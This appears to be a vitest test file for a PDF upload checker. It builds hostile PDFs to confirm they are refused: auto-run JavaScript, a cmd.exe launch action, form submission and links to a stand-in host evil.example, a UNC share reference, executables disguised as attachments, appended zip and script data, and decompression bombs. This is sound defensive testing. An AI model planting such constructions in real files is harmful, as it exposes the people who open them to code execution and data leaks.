import { deflateSync } from 'node:zlib'
import { PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { problems } from '../contract.ts'
import { aPdf, aZip, main, refusalOf } from './hostile-parts.ts'

const onOpen = (action: Record<string, unknown>) =>
  aPdf((document) => document.catalog.set(PDFName.of('OpenAction'), document.context.obj(action as never)))
const anAttachment = async (name: string, content: Buffer) => {
  const document = await PDFDocument.create()
  document.addPage()
  await document.attach(content, name)
  return Buffer.from(await document.save())
}

/** A PDF with one object stream of this many unpacked bytes. */
function swelling(size: number, filters = '/FlateDecode', packed = deflateSync(Buffer.alloc(size, 0x20), { level: 9 })): Buffer {
  const head = Buffer.from(`%PDF-1.7\n1 0 obj\n<< /Type /#4fbjStm /N 1 /First 4 /Filter ${filters} /Length ${packed.length} >>\nstream\n`)
  return Buffer.concat([head, packed, Buffer.from('\nendstream\nendobj\ntrailer\n<< /Root 2 0 R >>\n%%EOF\n')])
}

describe('PDF', () => {
  it.each<[string, () => Promise<Buffer>]>([
    ['JavaScript when it opens', () => onOpen({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') })],
    ['a program to launch', () => onOpen({ S: 'Launch', F: PDFString.of('cmd.exe') })],
    ['a form that sends itself', () => onOpen({ S: 'SubmitForm', F: PDFString.of('http://evil.example') })],
    ['another file to open', () => onOpen({ S: 'GoToR', F: PDFString.of('\\\\evil\\share\\a.pdf') })],
    ['an embedded file to open', () => onOpen({ S: 'GoToE' })],
    ['data to import', () => onOpen({ S: 'ImportData', F: PDFString.of('a.fdf') })],
    ['a page of the network that opens by itself', () => onOpen({ S: 'URI', URI: PDFString.of('http://evil.example') })],
    ['an XFA form', () => aPdf((document) => document.catalog.set(PDFName.of('AcroForm'), document.context.obj({ XFA: [] })))],
    ['a film', () => aPdf((document) => document.context.register(document.context.obj({ Type: 'Annot', Subtype: 'Movie' })))],
    ['a file as annotation', () => aPdf((document) => document.context.register(document.context.obj({ Subtype: 'FileAttachment' })))],
    ['an attachment', () => anAttachment('读我.txt', Buffer.from('text'))],
    ['a program under the name of our own data', () => anAttachment('data.json', Buffer.from('MZ\x90\0'))],
    ['a program under the name of our own seal', () => anAttachment('seal.esl', Buffer.from('#!/bin/sh'))],
  ])('with %s is refused as active', async (_, made) => {
    expect(await refusalOf(await made())).toContain(problems.activeContent.code)
  })

  it('with links, bookmarks that open a page of it, and our own data attached is accepted', async () => {
    expect(await refusalOf(await onOpen({ S: 'GoTo', D: [0, 'Fit'] }))).toBe('accepted as application/pdf')
    expect(await refusalOf(await anAttachment('data.json', Buffer.from('{"a":1}')))).toBe('accepted as application/pdf')
    const link = await aPdf((document) =>
      document.context.register(document.context.obj({ S: 'URI', URI: PDFString.of('https://www.gov.cn') })),
    )
    expect(await refusalOf(link)).toBe('accepted as application/pdf')
  })

  it('that is something else besides is refused', async () => {
    const plain = await aPdf()
    expect(await refusalOf(Buffer.concat([plain, aZip([main])]))).toContain('夹带其他数据')
    expect(await refusalOf(Buffer.concat([plain, Buffer.from('<script>alert(1)</script>')]))).toContain('夹带其他数据')
    expect(await refusalOf(Buffer.concat([Buffer.from('\n\n'), plain]))).not.toContain('accepted')
    const comment = Buffer.concat([plain.subarray(0, 9), Buffer.from('%<html><script>alert(1)</script>\n'), plain.subarray(9)])
    expect(await refusalOf(comment)).toContain('网页代码')
    const tail = Buffer.from('\n%%EOF\n')
    const zip = aZip([main], { comment: tail.toString('latin1') })
    expect(await refusalOf(Buffer.concat([plain, Buffer.from('%'), zip]))).toContain('压缩包')
  })

  it('whose objects swell is refused before they are unpacked, in bounded time and memory', async () => {
    const before = process.memoryUsage().rss
    const started = performance.now()
    expect(await refusalOf(swelling(300_000_000))).toContain(problems.swellingPdf.code)
    expect(await refusalOf(swelling(1000, '[/FlateDecode /Fl]', deflateSync(deflateSync(Buffer.alloc(1_000_000)))))).toContain('多重压缩')
    expect(await refusalOf(swelling(1000, '[/ASCII85Decode /FlateDecode]'))).toContain('编码方式')
    expect(performance.now() - started).toBeLessThan(15_000)
    expect(process.memoryUsage().rss - before).toBeLessThan(900_000_000)
  })

  it('nested without end is refused and breaks nothing', async () => {
    const deep = `%PDF-1.7\n1 0 obj\n${'['.repeat(60_000)}${']'.repeat(60_000)}\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n`
    expect(await refusalOf(Buffer.from(deep))).toContain('files.')
  })

  it('flipped anywhere is accepted or refused by a rule, never an error of ours', async () => {
    const whole = await aPdf((document) => document.context.register(document.context.obj({ S: 'URI', URI: PDFString.of('x') })), {
      useObjectStreams: false,
    })
    await fc.assert(
      fc.asyncProperty(fc.array(fc.tuple(fc.nat(whole.length - 1), fc.nat(255)), { minLength: 1, maxLength: 12 }), async (flips) => {
        const content = Buffer.from(whole)
        for (const [at, value] of flips) content[at] = value
        expect(await refusalOf(content)).toMatch(/^(accepted|files\.)/)
      }),
      { numRuns: 150 },
    )
  })
})
